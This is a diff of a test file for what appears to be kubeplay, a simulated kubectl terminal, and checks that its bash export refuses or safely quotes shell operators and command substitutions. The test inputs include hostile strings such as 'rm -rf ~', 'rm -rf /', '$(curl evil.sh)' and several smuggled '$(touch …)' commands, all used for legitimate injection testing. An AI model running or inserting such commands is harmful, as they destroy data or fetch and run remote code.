@@ -15,7 +15,9 @@ describe('commandLine', () => {
     [`kubectl get pods -o jsonpath='{.items[*].metadata.name}'`, `kubectl get pods -o 'jsonpath={.items[*].metadata.name}'`],
     // A shell operator: the terminal refused the line (one command, no shell), so it is not replayed either.
     ['kubectl get pods; rm -rf ~', '# not replayable (kubeplay: the terminal runs one command at a time, without a shell: ";" (pipes, redirections, ; and &&) is not supported; kubectl filters its own output with -l, --field-selector and -o jsonpath=… or custom-columns=…): kubectl get pods; rm -rf ~'],
-    ['kubectl get pod "$(curl evil.sh)" `id`', `kubectl get pod '$(curl evil.sh)' '\`id\`'`],
+    // A substitution the terminal refused (no shell to expand it) is not replayed; quoted, it is a word like any other.
+    ['kubectl get pod "$(curl evil.sh)" `id`', '# not replayable (kubeplay: the terminal runs one command at a time, without a shell: "$(curl evil.sh)" is not expanded (shell variables and $(…) command substitution are not supported); type the value itself: Tab completes pod and other object names, and kubectl get lists them): kubectl get pod "$(curl evil.sh)" `id`'],
+    [`kubectl get pod '$(curl evil.sh)' '\`id\`'`, `kubectl get pod '$(curl evil.sh)' '\`id\`'`],
     [`kubectl label pod a "note=it's"`, `kubectl label pod a 'note=it'\\''s'`],
     ['kubeplay node fail worker-2', '# kubeplay-only, skipped: kubeplay node fail worker-2\n#   (node faults are simulated; on kind, stop a node container instead (docker stop <cluster>-worker2) and start it again to recover)'],
     ['rm -rf /', '# not a kubectl command, skipped: rm -rf /'],
@@ -89,7 +91,8 @@ describe('exportForRealCluster', () => {
 
   it('the script is valid bash, and hostile words stay words', () => {
     const e = exportForRealCluster('x.yaml', rolling, [
-      { t: 1000, kind: 'run', text: 'kubectl get pods "x;" touch /tmp/kubeplay-pwned $(touch /tmp/kubeplay-pwned) `touch /tmp/kubeplay-pwned`' },
+      { t: 1000, kind: 'run', text: "kubectl get pods \"x;\" touch /tmp/kubeplay-pwned '$(touch /tmp/kubeplay-pwned)' '`touch /tmp/kubeplay-pwned`'" },
+      { t: 1200, kind: 'run', text: 'kubectl get pods $(touch /tmp/kubeplay-pwned)' },
       { t: 1500, kind: 'run', text: 'kubectl get pods; touch /tmp/kubeplay-pwned' },
       { t: 2000, kind: 'apply', text: 'KUBEPLAY_MANIFEST\n$(touch /tmp/kubeplay-pwned)\n' },
     ]);
@@ -100,8 +103,8 @@ describe('exportForRealCluster', () => {
     writeFileSync(join(dir, e.scriptFile), e.script);
     writeFileSync(join(dir, e.manifestsFile), e.manifests);
     const out = execFileSync('bash', [join(dir, e.scriptFile)], { env: { PATH: `${dir}:/usr/bin:/bin` }, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
-    expect(out).toContain('[pods]\n[x;]\n[touch]\n[/tmp/kubeplay-pwned]\n[$(touch]');
+    expect(out).toContain('[pods]\n[x;]\n[touch]\n[/tmp/kubeplay-pwned]\n[$(touch /tmp/kubeplay-pwned)]\n[`touch /tmp/kubeplay-pwned`]');
     expect(e.script).toContain('# not replayable (kubeplay: the terminal runs one command at a time');
-    expect(out).toContain('[`touch]');
+    expect(e.script).toContain('# not replayable (kubeplay: the terminal runs one command at a time, without a shell: "$(touch /tmp/kubeplay-pwned)" is not expanded');
   });
 });
